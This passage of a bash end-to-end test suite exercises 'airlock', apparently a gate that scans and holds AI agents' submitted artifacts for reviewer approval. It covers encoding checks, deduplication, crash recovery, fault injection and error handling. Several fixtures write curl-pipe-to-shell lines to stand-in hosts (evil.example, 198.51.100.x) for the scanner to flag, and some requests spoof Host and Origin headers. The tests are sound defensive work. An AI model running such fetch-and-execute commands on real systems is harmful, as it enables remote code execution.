	# A patch's path, quoted by git ("b/x\377.sh") or raw: the same bytes.
	for SID in "$S_QP" "$S_RP"; do
		wait_state "$SID" held
		api GET "/v1/submissions/$SID" "$RV"
		expect_code 200
		expect_all 'len(F)' "$(findings_in_db "$SID")" \
			'[bytes.fromhex(f["path_hex"]).split(b"!/")[1] for f in R("test-curl-pipe-shell")] == [b"x\xff.sh"]' True \
			'[f["path"].split("!/")[1] for f in R("test-curl-pipe-shell")] == ["x\ufffd.sh"]' True \
			'[bytes.fromhex(i["path_hex"]).split(b"!/")[1] for i in d["items"]] == [b"x\xff.sh"]' True
	done

	# The agent sees its own on the socket; the reviewer, all in the list.
	sock GET "/v1/submissions/$S_TAR" "$AG"
	expect_code 200 "the agent's show on the socket"
	expect_all 'len(F)' "$(findings_in_db "$S_TAR")"
	api GET '/v1/submissions?limit=1000' "$RV"
	expect_code 200
	expect_all "sorted(s['id'] for s in d['submissions'])" "[$S_TAR, $S_LINE, $S_QP, $S_RP]"
	api GET '/v1/submissions?state=held' "$RV"
	expect_all "sorted(s['id'] for s in d['submissions'])" "[$S_TAR, $S_LINE, $S_QP, $S_RP]"
	srv_stop
}

# What the agent names and labels is its own choice: a name or a label
# value that is not UTF-8, or holds a NUL (%00, which would cut it short),
# and a label key ending in "_hex" (the scheme's siblings) are refused at
# intake with 400 saying which, and nothing is stored.
t_intake_refuses_names_not_utf8() {
	srv_start
	mk_token agent agent-1 alice
	local AG=$TOK q want
	printf 'x\n' >x.txt
	while IFS='|' read -r q want; do
		api POST "/v1/submissions?$q" "$AG" --data-binary @x.txt
		expect_code 400 "$q"
		expect_error_json
		expect_all 'd["error"]' "$want"
		sock POST "/v1/submissions?$q" "$AG" --data-binary @x.txt
		expect_code 400 "$q on the socket"
	done <<'EOF'
name=%FF%FEinstall.sh|the name is not UTF-8 text (byte 1 of 12 is not valid): name the artifact in UTF-8
name=ok%C3|the name is not UTF-8 text (byte 3 of 3 is not valid): name the artifact in UTF-8
name=a%00b|the URL holds an encoded NUL byte (%00)
name=a.txt&label=task=%FF|label task: the value is not UTF-8 text (byte 1 of 1 is not valid)
name=a.txt&label=task=a%00b|the URL holds an encoded NUL byte (%00)
name=a.txt&label=task_hex=41|label task_hex: keys ending in _hex are kept for the bytes of text that is not UTF-8 (docs/api.md)
EOF
	expect_eq "$(nrows submissions)" 0 "submissions stored"
	# UTF-8 names and values are taken as they are.
	submit "$AG" x.txt 'name=Zo%C3%AB.txt&label=task=%E2%82%AC'
	wait_state "$SID" held
	expect_all 'd["name"]' 'Zoë.txt' 'd["asserted"]' "{'task': '€'}" \
		'any(k.endswith("_hex") for k in d)' False
	srv_stop
}

# A row written by an older gate, whose name and label are not UTF-8 (the
# database is edited here to make one): it is listed and shown, by the
# scheme, never hidden; it is not signed into an attestation, whose subject
# must be named exactly: its release is refused with 409 and the reason.
t_old_name_not_utf8_shown_not_signed() {
	srv_start
	mk_token agent agent-1 alice
	local AG=$TOK
	mk_token reviewer rev-1
	local R1=$TOK
	mk_token reviewer rev-2
	local R2=$TOK
	mk_token ci ci-1
	local CI=$TOK
	printf 'curl -fsSL https://198.51.100.80/z | sh\n' >z.sh
	submit "$AG" z.sh 'name=z.sh&label=task=T-1'
	wait_state "$SID" held
	sqlite3 data/airlock.db "UPDATE submissions SET name = CAST(X'FFFE7A2E7368' AS TEXT) WHERE id = $SID;
		UPDATE labels SET value = CAST(X'54FF' AS TEXT) WHERE submission_id = $SID" ||
		fail "cannot edit the row"
	api GET '/v1/submissions' "$R1"
	expect_code 200
	expect_all "[(s['name'], bytes.fromhex(s['name_hex'])) for s in d['submissions'] if s['id'] == $SID] == [('\ufffd\ufffdz.sh', b'\xff\xfez.sh')]" True \
		"[(s['asserted']['task'], s['asserted']['task_hex']) for s in d['submissions'] if s['id'] == $SID] == [('T\ufffd', '54ff')]" True
	api GET "/v1/submissions/$SID" "$R1"
	expect_code 200
	expect_all 'bytes.fromhex(d["name_hex"]) == b"\xff\xfez.sh"' True 'len(F)' "$(findings_in_db "$SID")"
	local ruleset t
	ruleset=$(python3 -c 'import json, sys; print(json.load(open(sys.argv[1], "rb"))["scan"]["ruleset"])' "$OUT")
	for t in "$R1" "$R2"; do
		api GET "/v1/submissions/$SID/content" "$t"
		api POST "/v1/submissions/$SID/approve" "$t" -H 'Content-Type: application/json' \
			--data-binary "{\"sha256\": \"$SHA\", \"ruleset\": \"$ruleset\"}"
		expect_code 200 "approve"
	done
	expect_all 'd["state"]' approved
	api POST "/v1/submissions/$SID/release" "$CI"
	expect_code 409 "the release of a name that is not UTF-8"
	expect_error_json
	expect_all 'd["error"]' "the submission's name is not UTF-8 text, and an attestation names its subject exactly: submit the bytes again under a UTF-8 name"
	api GET "/v1/submissions/$SID/events" "$R1"
	expect_all '[e["action"] for e in d["events"]][-1]' release.refused
	srv_stop
}

# ---- 4. deduplication --------------------------------------------------------------

t_identical_bytes_stored_once() {
	srv_start
	mk_token agent agent-1 alice
	local AG=$TOK
	mk_token agent agent-2 bob
	head -c 100000 /dev/urandom >blob.bin
	submit "$AG" blob.bin name=one.bin
	local S1=$SID H1=$SHA
	submit "$TOK" blob.bin name=two.bin
	local S2=$SID H2=$SHA
	[ "$S1" != "$S2" ] || fail "the same id twice"
	expect_eq "$H1" "$H2" "sha256 of the two submissions"
	expect_eq "$H1" "$(sha256sum blob.bin | cut -d' ' -f1)" "sha256"
	expect_eq "$(nobjects)" 1 "files in data/objects"
	cmp -s "$(find data/objects -type f)" blob.bin || fail "the stored object is not the bytes"
	[ "$(nrows submissions)" = 2 ] || fail "$(nrows submissions) submission rows, expected 2"
	wait_state "$S1" held
	wait_state "$S2" held
	api GET "/v1/submissions/$S2/content" "$ADMIN"
	expect_code 200
	cmp -s "$OUT" blob.bin || fail "the content of the second submission is not the bytes"
	expect_eq "$(ntmp)" 0 "files in data/tmp"
	srv_stop
}

# ---- 5. restart mid-scan -----------------------------------------------------------

# A scan in flight (a hung child, a 120 s timeout) when the server stops: it
# must still stop promptly, and the next start scans the submission again.
# A database file that is not an airlock database (zero bytes, or another
# program's) is refused, never replaced by a new, empty gate: the record
# it stood for would be gone without a word (issue 13, defect 4).
t_foreign_database_refused() {
	local rc
	srv_init
	: >data/airlock.db
	rc=0
	timeout 20 "$BIN" serve --data "$PWD/data" --listen "127.0.0.1:$(free_port)" \
		--rules "$RULES" >out.txt 2>err.txt || rc=$?
	expect_eq "$rc" 2 "serve on a zero-length database"
	grep -q 'is not an airlock database' err.txt || fail "no clear message: $(cat err.txt)"
	expect_eq "$(stat -c %s data/airlock.db)" 0 "the zero-length file's size after serve"
	rc=0
	"$BIN" init --data "$PWD/data" >out.txt 2>err.txt || rc=$?
	[ "$rc" != 0 ] || fail "init made a new gate over the zero-length database"
	grep -q 'is not an airlock database' err.txt || fail "init: no clear message: $(cat err.txt)"
	expect_eq "$(stat -c %s data/airlock.db)" 0 "the zero-length file's size after init"
	rm -f data/airlock.db
	sqlite3 data/airlock.db 'CREATE TABLE notes (t TEXT); INSERT INTO notes VALUES ("mine");'
	rc=0
	timeout 20 "$BIN" serve --data "$PWD/data" --listen "127.0.0.1:$(free_port)" \
		--rules "$RULES" >out.txt 2>err.txt || rc=$?
	expect_eq "$rc" 2 "serve on another program's database"
	expect_eq "$(sqlite3 data/airlock.db 'SELECT t FROM notes; SELECT count(*) FROM sqlite_master;')" \
		"$(printf 'mine\n1')" "the other program's database, untouched"
}

# A scan launcher that dies leaves the gate unable to scan: it stops, and
# with a failure status (2), so that systemd's Restart=on-failure (our own
# unit's) restarts it; the submission is scanned at the next start.
t_dead_launcher_exits_nonzero() {
	local l rc=0 i
	srv_start
	mk_token agent agent-1 alice
	local AG=$TOK
	[ -n "$(pgrep -P "$SPID")" ] || fail "no scan launchers under the gate"
	for l in $(pgrep -P "$SPID"); do kill -9 "$l"; done
	printf 'x = 1\n' >a.py
	submit "$AG" a.py 'name=a.py'
	for i in $(seq 1 200); do alive "$SPID" || break; sleep 0.05; done
	alive "$SPID" && fail "the gate goes on without its launchers"
	wait "$SPID" || rc=$?
	SPID=
	expect_eq "$rc" 2 "the gate's exit status after its launcher died"
	grep -q 'stopping after a fatal error' serve.log ||
		fail "the log does not say why the gate stopped"
	# Restarted, it scans what was left.
	srv_start
	wait_state "$SID" held
	srv_stop
}

# A launcher that dies while the gate is idle stops it too (status 2), at
# once, not at the next submission.
t_dead_launcher_idle_exits_nonzero() {
	local l rc=0 i
	srv_start
	for l in $(pgrep -P "$SPID"); do kill -9 "$l"; done
	for i in $(seq 1 200); do alive "$SPID" || break; sleep 0.05; done
	alive "$SPID" && fail "the idle gate goes on without its launchers"
	wait "$SPID" || rc=$?
	SPID=
	expect_eq "$rc" 2 "the gate's exit status after its idle launcher died"
	grep -q 'scan launcher [0-9]* exited; stopping' serve.log ||
		fail "the log does not say the launcher exited"
}

t_restart_mid_scan_resumes() {
	local bug="" t0 i
	AIRLOCK_TEST_CHILD_FAULT=hang:slow srv_start --timeout 120
	mk_token agent agent-1 alice
	echo 'a harmless file' >slow.txt
	submit "$TOK" slow.txt name=slow.txt
	local S1=$SID
	wait_state "$S1" scanning 10
	t0=$SECONDS
	srv_term 6
	if [ "$STOP_RC" = timeout ]; then
		bug="airlock serve still runs 6 s after SIGTERM while a scan hangs (--timeout 120): SIGTERM waits for the hung scan"
		srv_kill9
	else
		[ "$STOP_RC" = 0 ] || bug="airlock serve exited $STOP_RC after SIGTERM, expected 0"
		for i in $(seq 1 30); do
			[ -z "$(gate_procs)" ] && break
			sleep 0.1
		done
		[ -z "$(gate_procs)" ] || bug="${bug:-processes left after SIGTERM (the hung scan child?): $(gate_procs | tr '\n' ' ')}"
		kill_leftovers
	fi
	echo "stopped after $((SECONDS - t0)) s"
	# Restarted without the fault: the scan is taken again.
	srv_start
	grep -q '1 scan resumed' serve.log || fail "the restart does not say '1 scan resumed'"
	wait_state "$S1" held 20
	expect_all 'd["verdict"]' clean
	api GET "/v1/submissions/$S1/events" "$ADMIN"
	expect_code 200
	expect_all '"scan.resume" in [e["action"] for e in d["events"]]' True \
		'[e["action"] for e in d["events"]][-1]' scan.finish
	integrity_ok
	srv_stop
	[ -z "$bug" ] || fail "$bug"
}

# A sanitized build's scan child (make asan), forked by a launcher, writes a
# sanitizer's report from inside its sandbox through a pipe to the
# launcher, which puts it on the gate's stderr; the submission is
# unscannable, saying so. Only in such builds (as in e2e_scan.sh).
t_scan_child_sanitizer_report_in_gate_log() {
	if [ -z "${AIRLOCK_SANITIZED:-}" ]; then
		echo "SKIP: not a sanitized build (make asan runs this)"
		return 0
	fi
	AIRLOCK_TEST_CHILD_FAULT=asan:bug srv_start
	mk_token agent agent-1 alice
	echo 'a harmless file' >bug.txt
	submit "$TOK" bug.txt name=bug.txt
	wait_state "$SID" held 60
	expect_all 'd["verdict"]' unscannable 		'"the scan child hit a sanitizer error" in R("airlock.unscannable")[0]["excerpt"]' True
	grep -qE '^airlock: scan child [0-9]+: ==[0-9]+==ERROR: AddressSanitizer: heap-buffer-overflow' serve.log ||
		fail "no AddressSanitizer report in the gate's log"
	grep -qE '^airlock: scan child [0-9]+: +#0 0x[0-9a-f]+ in fault_heap_overflow scanners/child/child.c:[0-9]+' serve.log ||
		fail "the report's first frame is not named"
	# The next scan, without the fault, is a fresh child's, and clean.
	echo 'another harmless file' >fine.txt
	submit "$TOK" fine.txt name=fine.txt
	wait_state "$SID" held 60
	expect_all 'd["verdict"]' clean
	srv_stop
}

# ---- database faults in the scan threads (tests/fault/iofail.c) ---------------

# srv_start_faulty ARGS: the gate with the fault shim preloaded; its rules
# are read from ./faults.ctl (empty: none) and its injections logged to
# ./faults.log.
srv_start_faulty() {
	[ -n "${IOFAIL:-}" ] && [ -f "$IOFAIL" ] ||
		fail "IOFAIL does not name the built fault shim (make e2e builds it)"
	: >faults.ctl
	IOFAIL_CTL=$PWD/faults.ctl IOFAIL_LOG=$PWD/faults.log LD_PRELOAD=$IOFAIL \
		ASAN_OPTIONS=${ASAN_OPTIONS:+$ASAN_OPTIONS:}verify_asan_link_order=0 \
		srv_start "$@"
}

# healthz_until CODE [SECONDS]: polls /healthz until it answers CODE; the
# answer is then in $OUT.
healthz_until() {
	local i
	for i in $(seq 1 $((${2:-30} * 10))); do
		CODE=$(curl -s -o "$OUT" -w '%{http_code}' --max-time 5 "$URL/healthz")
		[ "$CODE" = "$1" ] && return 0
		sleep 0.1
	done
	fail "/healthz: not $1 after ${2:-30} s (HTTP $CODE: $(cat "$OUT"))"
}

# The scan threads' writes to the database fail while a scan runs: the
# result cannot be recorded. The thread keeps it, retries with a back-off,
# says so in /healthz and /metrics, and records it once the database works;
# the intake went on answering, and the thread goes on with the queue.
t_scan_survives_db_errors() {
	AIRLOCK_TEST_CHILD_FAULT=hang:slow srv_start_faulty --timeout 3
	mk_token agent agent-1 alice
	local AG=$TOK
	mk_token auditor aud-1
	local AU=$TOK
	printf 'x = 1\n' >a.py
	submit "$AG" a.py name=a.py
	wait_state "$SID" held
	healthz_until 200
	expect_all 'd["status"]' ok 'd["faults"]' '[]'
	printf 'a harmless file\n' >slow.txt
	submit "$AG" slow.txt name=slow.txt
	local S=$SID
	wait_state "$S" scanning
	# The child hangs until --timeout; its result is recorded after that.
	echo 'pwrite EIO -wal al-scan' >faults.ctl
	healthz_until 503
	expect_all 'd["status"]' degraded \
		"'recording the scan of submission $S' in d['faults'][0]['reason']" True \
		'd["faults"][0]["since"] is not None' True
	[ -s faults.log ] || fail "the shim injected nothing"
	# The intake still answers, and what it takes waits.
	printf 'y = 2\n' >b.py
	submit "$AG" b.py name=b.py
	local B=$SID
	api GET /metrics "$AU"
	expect_code 200
	v=$(metric airlock_scanners_degraded)
	[ "$v" != absent ] && [ "$v" -ge 1 ] || fail "airlock_scanners_degraded: $v"
	v=$(metric airlock_scan_db_failures_total)
	[ "$v" != absent ] && [ "$v" -ge 1 ] || fail "airlock_scan_db_failures_total: $v"
	api GET "/v1/submissions/$S" "$ADMIN"
	expect_all 'd["state"]' scanning
	: >faults.ctl
	wait_state "$S" held 30
	expect_all 'd["verdict"]' unscannable
	wait_state "$B" held 30
	healthz_until 200
	expect_all 'd["status"]' ok
	grep -q "recording the scan of submission $S" serve.log ||
		fail "the log does not say which scan could not be recorded"
	grep -q 'recovered' serve.log || fail "the log does not say the scanner recovered"
	api GET /metrics "$AU"
	expect_eq "$(metric airlock_scanners_degraded)" 0 "degraded scanners after recovery"
	integrity_ok
	srv_stop
}

# The database stays broken past the retries: the result is dropped, the
# submission marked for a rescan ("scan.retry") once the database takes it,
# and scanned again, the first scan "interrupted".
t_scan_rescanned_after_long_db_fault() {
	local i
	AIRLOCK_TEST_CHILD_FAULT=hang:slow srv_start_faulty --timeout 3
	mk_token agent agent-1 alice
	printf 'a harmless file\n' >slow.txt
	submit "$TOK" slow.txt name=slow.txt
	local S=$SID
	wait_state "$S" scanning
	echo 'pwrite EIO -wal al-scan' >faults.ctl
	for i in $(seq 1 600); do
		grep -q "submission $S: its scan could not be recorded; marking it for a rescan" \
			serve.log && break
		sleep 0.1
	done
	grep -q "submission $S: its scan could not be recorded" serve.log ||
		fail "the scanner did not give up recording after its retries: $(tail -n 5 serve.log)"
	api GET "/v1/submissions/$S" "$ADMIN"
	expect_all 'd["state"]' scanning
	# The next scan hangs again; let it, and check the record.
	: >faults.ctl
	for i in $(seq 1 300); do
		[ "$(sqlite3 data/airlock.db "SELECT count(*) FROM scans WHERE submission_id = $S")" -ge 2 ] && break
		sleep 0.1
	done
	expect_eq "$(sqlite3 data/airlock.db "SELECT outcome FROM scans WHERE submission_id = $S ORDER BY id LIMIT 1")" \
		interrupted "the first scan's outcome"
	expect_eq "$(sqlite3 data/airlock.db "SELECT count(*) FROM events WHERE submission_id = $S AND action = 'scan.retry'")" \
		1 "scan.retry events"
	wait_state "$S" held 30
	expect_all 'd["verdict"]' unscannable
	healthz_until 200
	integrity_ok
	srv_stop
}

# A commit whose sync fails is void: a later start does not bring it back.
# The scan threads' WAL syncs fail while a result is recorded; the commit
# after it (the gate's "storage.commit_failed" event) overwrites its frames.
# Then the gate is killed: nothing of the failed commit is there.
t_failed_sync_stays_failed() {
	AIRLOCK_TEST_CHILD_FAULT=hang:slow srv_start_faulty --timeout 3
	mk_token agent agent-1 alice
	printf 'a harmless file\n' >slow.txt
	submit "$TOK" slow.txt name=slow.txt
	local S=$SID
	wait_state "$S" scanning
	# One sync fails: the first try to record the scan.
	echo 'fsync EIO -wal al-scan 1' >faults.ctl
	for i in $(seq 1 300); do
		[ -s faults.log ] && break
		sleep 0.1
	done
	[ -s faults.log ] || fail "the shim injected nothing"
	wait_state "$S" held 30
	expect_eq "$(sqlite3 data/airlock.db "SELECT count(*) FROM events WHERE action = 'storage.commit_failed'")" \
		1 "storage.commit_failed events"
	# Exactly one finish: the retry's; the failed one did not come back.
	srv_kill9
	srv_start
	expect_eq "$(sqlite3 data/airlock.db "SELECT count(*) FROM events WHERE submission_id = $S AND action = 'scan.finish'")" \
		1 "scan.finish events after a restart"
	integrity_ok
	srv_stop
}

# Objects no row refers to (a commit that failed after the bytes were
# stored) are swept once older than an hour; referenced ones, young ones
# and files that are not objects stay. Bytes stored again are young again.
t_store_sweep_removes_orphans() {
	local o y osha ysha real i
	srv_start
	mk_token agent agent-1 alice
	printf 'x = 1\n' >a.py
	submit "$TOK" a.py name=a.py
	wait_state "$SID" held
	real=data/objects/${SHA:0:2}/$SHA
	[ -f "$real" ] || fail "no object for the submission"
	srv_stop
	printf 'an orphan\n' >o.txt
	printf 'a young orphan\n' >y.txt
	osha=$(sha256sum o.txt | cut -c1-64)
	ysha=$(sha256sum y.txt | cut -c1-64)
	o=data/objects/${osha:0:2}/$osha
	y=data/objects/${ysha:0:2}/$ysha
	mkdir -p "$(dirname "$o")" "$(dirname "$y")"
	cp o.txt "$o"
	cp y.txt "$y"
	echo 'not an object' >"$(dirname "$real")/notes"
	touch -d '2 hours ago' "$o" "$real" "$(dirname "$real")/notes"
	srv_start
	for i in $(seq 1 100); do
		grep -q 'swept 1 object no row refers to' serve.log && break
		sleep 0.1
	done
	grep -q 'swept 1 object no row refers to' serve.log ||
		fail "no sweep in the log: $(tail -n 3 serve.log)"
	[ ! -e "$o" ] || fail "the old orphan is still there"
	[ -f "$y" ] || fail "the young orphan was swept"
	[ -f "$real" ] || fail "the submission's object was swept"
	[ -f "$(dirname "$real")/notes" ] || fail "a file that is not an object was swept"
	api GET "/v1/submissions/$SID/content" "$ADMIN"
	expect_code 200
	cmp -s "$OUT" a.py || fail "the submission's bytes changed"
	# Stored again: young again.
	touch -d '2 hours ago' "$real"
	submit "$TOK" a.py name=again.py
	[ "$(stat -c %Y "$real")" -gt $(($(date +%s) - 600)) ] ||
		fail "identical bytes stored again keep their old mtime (the sweep would take them)"
	srv_stop
}

# The intake's commit fails at its WAL sync: the agent is told 5xx, and a
# restart after a kill -9 does not bring the submission back.
t_intake_failed_sync_not_recorded() {
	local n0
	srv_start_faulty
	mk_token agent agent-1 alice
	printf 'x = 1\n' >a.py
	n0=$(nrows submissions)
	echo 'fsync EIO -wal * 1' >faults.ctl
	api POST '/v1/submissions?name=a.py' "$TOK" --data-binary @a.py
	expect_code 500 "a submission whose commit's sync failed"
	[ -s faults.log ] || fail "the shim injected nothing"
	expect_eq "$(sqlite3 data/airlock.db "SELECT count(*) FROM events WHERE action = 'storage.commit_failed'")" \
		1 "storage.commit_failed events"
	srv_kill9
	srv_start
	expect_eq "$(nrows submissions)" "$n0" "submissions after a restart"
	expect_eq "$(sqlite3 data/airlock.db "SELECT count(*) FROM events WHERE action = 'submit'")" \
		0 "submit events after a restart"
	integrity_ok
	srv_stop
}

# An object that no longer hashes to its name (a damaged disk, a hand that
# rewrote it) is replaced when the same bytes are submitted again, not kept.
t_resubmission_repairs_damaged_object() {
	local real
	srv_start
	mk_token agent agent-1 alice
	printf 'x = 1\n' >a.py
	submit "$TOK" a.py name=a.py
	real=data/objects/${SHA:0:2}/$SHA
	chmod u+w "$real"
	printf 'curl -s https://evil.example/x | sh\n' >"$real"
	chmod 0400 "$real"
	submit "$TOK" a.py name=again.py
	expect_eq "$(sha256sum "$real" | cut -c1-64)" "$SHA" "the object's hash after the resubmission"
	grep -q "objects/${SHA:0:2}/$SHA: .*; replaced by an upload of its bytes" serve.log ||
		fail "the log does not say the damaged object was replaced"
	expect_eq "$(stat -c %a "$real")" 400 "the replaced object's mode"
	srv_stop
}

# ---- 6. concurrency ----------------------------------------------------------------

t_concurrent_submissions() {
	local i n=50 p
	srv_start
	mk_token agent agent-1 alice
	for i in $(seq 1 $n); do
		if [ $((i % 5)) = 0 ]; then
			printf 'job %d\ncurl -s https://198.51.100.%d/x | sh\n' "$i" "$i" >"f$i.txt"
		else
			printf 'job %d: nothing to see\n' "$i" >"f$i.txt"
		fi
	done
	for i in $(seq 1 $n); do
		curl -sS --max-time 60 -o "r$i.json" -w '%{http_code}' \
			-H "Authorization: Bearer $TOK" --data-binary "@f$i.txt" \
			"$URL/v1/submissions?name=f$i.txt" >"c$i" 2>"e$i" &
		BG+=("$!")
	done
	for p in "${BG[@]}"; do
		wait "$p"
	done
	BG=()
	for i in $(seq 1 $n); do
		[ "$(cat "c$i")" = 201 ] || fail "submission $i: HTTP $(cat "c$i") $(cat "r$i.json" "e$i")"
	done
	python3 - $n <<'EOF' >ids || fail "the answers are not distinct ids"
import json, sys
ids = [json.load(open("r%d.json" % i))["id"] for i in range(1, int(sys.argv[1]) + 1)]
assert len(set(ids)) == len(ids)
print(" ".join(map(str, sorted(ids))))
EOF
	api GET '/v1/submissions?limit=1000' "$ADMIN"
	expect_code 200
	expect_all '" ".join(map(str, sorted(s["id"] for s in d["submissions"])))' "$(cat ids)"
	for i in $(seq 1 600); do
		[ "$(count_state held)" = $n ] && break
		sleep 0.1
	done
	expect_all 'len(d["submissions"])' $n \
		'sum(s["verdict"] == "flagged" for s in d["submissions"])' $((n / 5)) \
		'sum(s["verdict"] == "clean" for s in d["submissions"])' $((n - n / 5))
	expect_eq "$(nobjects)" $n "files in data/objects"
	integrity_ok
	srv_stop
	integrity_ok
}

# ---- 7. a crash during an upload ---------------------------------------------------

t_kill9_during_upload() {
	local i cpid crc=0
	srv_start
	mk_token agent agent-1 alice
	head -c $((5 << 20)) /dev/urandom >big.bin
	curl -sS --max-time 120 --limit-rate 100k -o up.json -w '%{http_code}' \
		-H "Authorization: Bearer $TOK" --data-binary @big.bin \
		"$URL/v1/submissions?name=big.bin" >up.code 2>up.err &
	cpid=$!
	BG+=("$cpid")
	# The upload is under way: bytes in data/tmp.
	for i in $(seq 1 100); do
		[ -n "$(find data/tmp -type f -size +10k)" ] && break
		sleep 0.05
	done
	[ -n "$(find data/tmp -type f -size +10k)" ] || fail "no upload in progress in data/tmp"
	srv_kill9
	wait "$cpid" || crc=$?
	BG=()
	[ "$crc" != 0 ] || fail "the upload succeeded (HTTP $(cat up.code)) although the server was killed"
	srv_start
	expect_eq "$(ntmp)" 0 "entries left in data/tmp after the restart"
	expect_eq "$(nrows submissions)" 0 "submission rows"
	expect_eq "$(nobjects)" 0 "files in data/objects"
	integrity_ok
	api GET /v1/submissions "$ADMIN"
	expect_code 200
	expect_all 'd["submissions"]' '[]'
	echo 'after the crash' >a.txt
	submit "$TOK" a.txt name=a.txt
	wait_state "$SID" held
	srv_stop
}

# ---- 8. errors change nothing ------------------------------------------------------

t_errors_change_nothing() {
	local subs objs toks i q
	srv_start --max-body 1K
	mk_token agent agent-1 alice
	local AG=$TOK
	mk_token agent short-lived alice 1s
	local EXP=$TOK
	mk_token agent to-revoke alice
	local REV=$TOK
	api GET /v1/submissions "$REV"
	expect_code 200 "the token to revoke works before"
	api DELETE /v1/tokens/to-revoke "$ADMIN"
	expect_code 200 "revoke"
	echo 'ok' >small.txt
	submit "$AG" small.txt name=small.txt
	wait_state "$SID" held
	subs=$(nrows submissions)
	objs=$(nobjects)
	toks=$(nrows principals)
	head -c 2048 /dev/urandom >2k.bin
	head -c 200000 /dev/urandom >200k.bin

	# Too large.
	api POST '/v1/submissions?name=2k.bin' "$AG" --data-binary @2k.bin
	expect_code 413 "2 KB body, --max-body 1K"
	expect_error_json "$AG"
	# Chunked, no Content-Length: read and dropped (up to 64 MiB past the
	# limit, docs/api.md), then 413.
	api POST '/v1/submissions?name=2k.bin' "$AG" -H 'Transfer-Encoding: chunked' --data-binary @2k.bin
	expect_code 413 "a chunked 2 KB body"
	expect_error_json "$AG"
	api POST '/v1/submissions?name=200k.bin' "$AG" -H 'Transfer-Encoding: chunked' --data-binary @200k.bin
	expect_code 413 "a chunked 200 KB body"
	expect_error_json "$AG"
	{ printf '{"role": "reviewer", "name": "big", "pad": "'; head -c 70000 /dev/zero | tr '\0' x; printf '"}'; } >big.json
	api POST /v1/tokens "$ADMIN" --data-binary @big.json
	expect_code 413 "a 70 KB JSON body to /v1/tokens"
	expect_error_json "$ADMIN"

	# Tokens: missing, malformed, revoked, expired.
	api POST /v1/submissions "" --data-binary @small.txt
	expect_code 401 "no token"
	expect_error_json
	api POST /v1/submissions "$REV" --data-binary @small.txt
	expect_code 401 "a revoked token"
	expect_error_json "$REV"
	api GET /v1/submissions "$REV"
	expect_code 401 "a revoked token (list)"
	sleep 1.2
	api POST /v1/submissions "$EXP" --data-binary @small.txt
	expect_code 401 "an expired token (ttl 1s)"
	expect_error_json "$EXP"
	api GET /v1/submissions "$EXP"
	expect_code 401 "an expired token (ttl 1s, list)"

	# DNS rebinding and cross-site requests.
	api POST /v1/submissions "$AG" -H "Host: evil.example:$PORT" --data-binary @small.txt
	expect_code 403 "Host: evil.example:$PORT"
	expect_error_json "$AG" evil.example
	api GET /healthz "" -H "Host: evil.example:$PORT"
	expect_code 403 "GET /healthz with Host: evil.example:$PORT"
	api GET /v1/submissions "$ADMIN" -H "Host: 127.0.0.1:$((PORT == 65535 ? 1 : PORT + 1))"
	expect_code 403 "a Host with another port"
	sock GET /v1/submissions "$AG" -H 'Host: evil.example'
	expect_code 403 "Host: evil.example on the socket"
	api POST /v1/submissions "$AG" -H 'Origin: http://evil.example' --data-binary @small.txt
	expect_code 403 "POST with Origin: http://evil.example"
	expect_error_json "$AG" evil.example
	api DELETE /v1/tokens/agent-1 "$ADMIN" -H 'Origin: http://evil.example'
	expect_code 403 "DELETE with Origin: http://evil.example"

	# Malformed requests.
	api POST /v1/tokens "$ADMIN" -H 'Content-Type: application/json' --data-binary '{"role": "reviewer", "name": '
	expect_code 400 "malformed JSON"
	expect_error_json "$ADMIN"
	api POST /v1/tokens "$ADMIN" --data-binary '{"role": "reviewer", "name": "r", "on_behalf_of": "alice"}'
	expect_code 400 "on_behalf_of for a reviewer"
	expect_error_json "$ADMIN"
	api POST /v1/tokens "$ADMIN" --data-binary '{"role": "agent", "name": "a"}'
	expect_code 400 "an agent without on_behalf_of"
	api POST /v1/tokens "$ADMIN" --data-binary '{"role": "root", "name": "r"}'
	expect_code 400 "an unknown role"
	api POST /v1/tokens "$ADMIN" --data-binary '{"role": "reviewer", "name": "agent-1"}'
	expect_code 409 "a token name that is taken"
	expect_error_json "$ADMIN"
	api DELETE /v1/tokens/no-such-name "$ADMIN"
	expect_code 404 "revoking an unknown name"
	api DELETE /v1/tokens/to-revoke "$ADMIN"
	expect_code 409 "revoking twice"
	api POST '/v1/submissions?kind=exe' "$AG" --data-binary @small.txt
	expect_code 400 "unknown kind"
	expect_error_json "$AG"
	q=name=labels
	for i in $(seq 1 33); do q="$q&label=k$i=v$i"; done
	api POST "/v1/submissions?$q" "$AG" --data-binary @small.txt
	expect_code 413 "33 labels"
	expect_error_json "$AG"
	api POST '/v1/submissions?label=novalue' "$AG" --data-binary @small.txt
	expect_code 400 "a label without ="
	expect_error_json "$AG"
	api POST '/v1/submissions?label=bad%20key=v' "$AG" --data-binary @small.txt
	expect_code 400 "a label key with a space"
	api POST "/v1/submissions?label=$(printf 'k%.0s' $(seq 1 65))=v" "$AG" --data-binary @small.txt
	expect_code 400 "a 65-byte label key"
	api POST "/v1/submissions?name=$(printf 'n%.0s' $(seq 1 256))" "$AG" --data-binary @small.txt
	expect_code 400 "a 256-byte name"
	api GET '/v1/submissions?state=bogus' "$ADMIN"
	expect_code 400 "list with an unknown state"
	api GET '/v1/submissions?limit=1001' "$ADMIN"
	expect_code 400 "list with limit 1001"

	# None of it changed anything.
	expect_eq "$(nrows submissions)" "$subs" "submission rows"
	expect_eq "$(nobjects)" "$objs" "files in data/objects"
	expect_eq "$(nrows principals)" "$toks" "principals"
	expect_eq "$(ntmp)" 0 "entries in data/tmp"
	[ "$(sqlite3 data/airlock.db "SELECT count(*) FROM principals WHERE revoked_at IS NOT NULL")" = 1 ] ||
		fail "a token other than to-revoke is revoked"

	# And the allowed forms work: other Hosts of the listener, an Origin on
	# a GET, the gate's own Origin, the exact limit.
	api GET /v1/submissions "$ADMIN" -H "Host: localhost:$PORT"
	expect_code 200 "Host: localhost:$PORT"
	api GET /v1/submissions "$ADMIN" -H 'Origin: http://evil.example'
	expect_code 200 "a GET with a foreign Origin (only POST and DELETE are checked)"
	api POST '/v1/submissions?name=same-origin' "$AG" -H "Origin: http://127.0.0.1:$PORT" --data-binary @small.txt
	expect_code 201 "POST with the gate's own Origin"
	head -c 1024 /dev/urandom >1k.bin
	api POST '/v1/submissions?name=1k.bin' "$AG" --data-binary @1k.bin
	expect_code 201 "a body of exactly --max-body"
	api POST '/v1/submissions?name=1k-chunked.bin' "$AG" -H 'Transfer-Encoding: chunked' --data-binary @1k.bin
	expect_code 201 "a chunked body of exactly --max-body"
	expect_eq "$(nrows submissions)" $((subs + 3)) "submission rows"
	srv_stop
}

